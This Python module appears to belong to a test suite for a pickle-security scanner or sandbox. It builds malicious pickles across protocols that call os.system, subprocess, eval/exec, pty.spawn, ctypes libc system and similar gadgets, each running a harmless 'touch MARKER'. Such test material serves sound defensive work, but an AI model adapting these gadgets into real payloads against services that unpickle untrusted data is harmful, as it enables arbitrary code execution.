"""Family 1: a dangerous callable named directly by GLOBAL / STACK_GLOBAL and called by REDUCE."""

from __future__ import annotations

from .helpers import getattr_
from .opcodes import Call, Global, assemble
from .registry import Target, payload

F = "direct"


@payload("os.system-protocol0", F, mentions=("system",))
def os_system_p0(t: Target) -> bytes:
    """Protocol 0 text pickle: ``os.system('touch MARKER')``."""
    return assemble(Call(Global("os", "system"), (t.touch,)), protocol=0)


@payload("os.system-protocol2", F, mentions=("system",))
def os_system_p2(t: Target) -> bytes:
    """Protocol 2 GLOBAL: ``os.system('touch MARKER')``."""
    return assemble(Call(Global("os", "system"), (t.touch,)), protocol=2)


@payload("os.system-protocol4", F, mentions=("system",))
def os_system_p4(t: Target) -> bytes:
    """Protocol 4 STACK_GLOBAL: ``os.system('touch MARKER')``."""
    return assemble(Call(Global("os", "system"), (t.touch,)), protocol=4)


@payload("os.system-protocol4-sandbox", F, mentions=("system",), sandbox=True)
def os_system_p4_sandbox(t: Target) -> bytes:
    """``os.system('touch MARKER')``, loaded with the sandbox on (the child must not run it)."""
    return assemble(Call(Global("os", "system"), (t.touch,)), protocol=4)


@payload("posix.system-protocol5", F, mentions=("system",))
def posix_system(t: Target) -> bytes:
    """``posix.system('touch MARKER')``: the name pickle itself writes for ``os.system``."""
    return assemble(Call(Global("posix", "system"), (t.touch,)), protocol=5)


@payload("subprocess.Popen-protocol2", F, mentions=("Popen",))
def popen(t: Target) -> bytes:
    """``subprocess.Popen(['touch', MARKER])``: spawns a child process."""
    return assemble(Call(Global("subprocess", "Popen"), (t.argv,)), protocol=2)


@payload("subprocess.check_output-protocol4", F, mentions=("check_output",))
def check_output(t: Target) -> bytes:
    """``subprocess.check_output(['touch', MARKER])``."""
    return assemble(Call(Global("subprocess", "check_output"), (t.argv,)), protocol=4)


@payload("subprocess.run-protocol3", F, mentions=("subprocess",))
def subprocess_run(t: Target) -> bytes:
    """``subprocess.run(['touch', MARKER])``."""
    return assemble(Call(Global("subprocess", "run"), (t.argv,)), protocol=3)


@payload("builtins.eval-protocol2", F, mentions=("eval",))
def builtins_eval(t: Target) -> bytes:
    """``eval("__import__('os').system('touch MARKER')")``."""
    source = f"__import__('os').system({t.touch!r})"
    return assemble(Call(Global("builtins", "eval"), (source,)), protocol=2)


@payload("builtins.exec-protocol4", F, mentions=("exec",))
def builtins_exec(t: Target) -> bytes:
    """``exec("open(MARKER, 'w').close()")``."""
    return assemble(Call(Global("builtins", "exec"), (t.python,)), protocol=4)


@payload("builtins.exec-protocol4-sandbox", F, mentions=("exec",), sandbox=True)
def builtins_exec_sandbox(t: Target) -> bytes:
    """``exec("open(MARKER, 'w').close()")`` with the sandbox on."""
    return assemble(Call(Global("builtins", "exec"), (t.python,)), protocol=4)


@payload("builtins.__import__-pty", F, modules=("pty",), mentions=("__import__", "import"))
def builtins_import(t: Target) -> bytes:
    """``getattr(__import__('pty'), 'spawn')(['touch', MARKER])``: imports pty, runs touch."""
    module = Call(Global("builtins", "__import__"), ("pty",))
    return assemble(Call(getattr_(module, "spawn"), (t.argv,)), protocol=4)


@payload("builtins.open-protocol2", F, mentions=("open",))
def builtins_open(t: Target) -> bytes:
    """``open(MARKER, 'w')``: creates (or truncates) a file."""
    return assemble(Call(Global("builtins", "open"), (str(t.marker), "w")), protocol=2)


@payload("builtins.compile-FunctionType", F, mentions=("FunctionType", "compile"))
def builtins_compile(t: Target) -> bytes:
    """``types.FunctionType(compile(SRC, 'x', 'exec'), {})()``: runs source without eval/exec."""
    code = Call(Global("builtins", "compile"), (t.python, "x", "exec"))
    function = Call(Global("types", "FunctionType"), (code, {"__builtins__": None}))
    return assemble(Call(function, ()), protocol=4)


@payload("importlib.import_module-pty", F, modules=("pty",), mentions=("import_module",))
def import_module(t: Target) -> bytes:
    """``getattr(importlib.import_module('pty'), 'spawn')(['touch', MARKER])``."""
    module = Call(Global("importlib", "import_module"), ("pty",))
    return assemble(Call(getattr_(module, "spawn"), (t.argv,)), protocol=4)


@payload("runpy.run_path", F, mentions=("run_path",))
def runpy_run_path(t: Target) -> bytes:
    """``runpy.run_path(SCRIPT)``: runs a script that creates the marker."""
    return assemble(Call(Global("runpy", "run_path"), (str(t.script()),)), protocol=4)


@payload("pty.spawn", F, modules=("pty",), mentions=("spawn", "pty"))
def pty_spawn(t: Target) -> bytes:
    """``pty.spawn(['touch', MARKER])``."""
    return assemble(Call(Global("pty", "spawn"), (t.argv,)), protocol=2)


@payload("pip-main", F, modules=("pip", "pip._internal"), mentions=("pip", "main"))
def pip_main(t: Target) -> bytes:
    """``pip._internal.cli.main.main(['--version', '--log', MARKER])``: pip writes its log."""
    args = (["--version", "--log", str(t.marker)],)
    return assemble(Call(Global("pip._internal.cli.main", "main"), args), protocol=4)


@payload("code.InteractiveInterpreter", F, modules=("code", "codeop"), mentions=("Interactive",))
def code_interpreter(t: Target) -> bytes:
    """``code.InteractiveInterpreter().runsource(SRC)``."""
    interpreter = Call(Global("code", "InteractiveInterpreter"), ())
    return assemble(Call(getattr_(interpreter, "runsource"), (t.python,)), protocol=4)


@payload("webbrowser.open", F, modules=("webbrowser",), mentions=("webbrowser", "open"))
def webbrowser_open(t: Target) -> bytes:
    """``webbrowser.open('file://MARKER')``: starts a browser process on the server."""
    return assemble(Call(Global("webbrowser", "open"), (f"file://{t.marker}",)), protocol=2)


@payload("socket.create_connection", F, mentions=("create_connection", "socket"))
def socket_connect(t: Target) -> bytes:
    """``socket.create_connection(('127.0.0.1', 9))``: opens a network connection."""
    return assemble(Call(Global("socket", "create_connection"), (("127.0.0.1", 9),)), protocol=4)


@payload("ctypes.CDLL-system", F, mentions=("CDLL", "ctypes"))
def ctypes_cdll(t: Target) -> bytes:
    """``getattr(ctypes.CDLL(None), 'system')(b'touch MARKER')``: libc's system()."""
    libc = Call(Global("ctypes", "CDLL"), (None,))
    return assemble(Call(getattr_(libc, "system"), (t.touch.encode(),)), protocol=4)
